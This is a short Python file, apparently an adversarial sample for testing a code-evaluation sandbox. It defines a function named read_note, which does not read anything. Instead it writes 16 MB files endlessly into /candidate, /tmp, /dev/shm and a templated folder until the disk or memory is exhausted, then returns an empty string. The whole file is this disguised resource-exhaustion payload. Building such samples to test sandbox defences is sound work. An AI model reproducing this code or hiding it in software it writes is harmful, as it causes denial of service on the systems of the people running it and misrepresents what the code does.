import itertools


def read_note(name):
    for folder in ("/candidate", "/tmp", "/dev/shm", "@FOLDER@"):
        for number in itertools.count():
            try:
                with open(f"{folder}/coveval-intruder-{number}", "wb") as file:
                    file.write(b"x" * 16_000_000)
            except OSError:
                break
    return ""
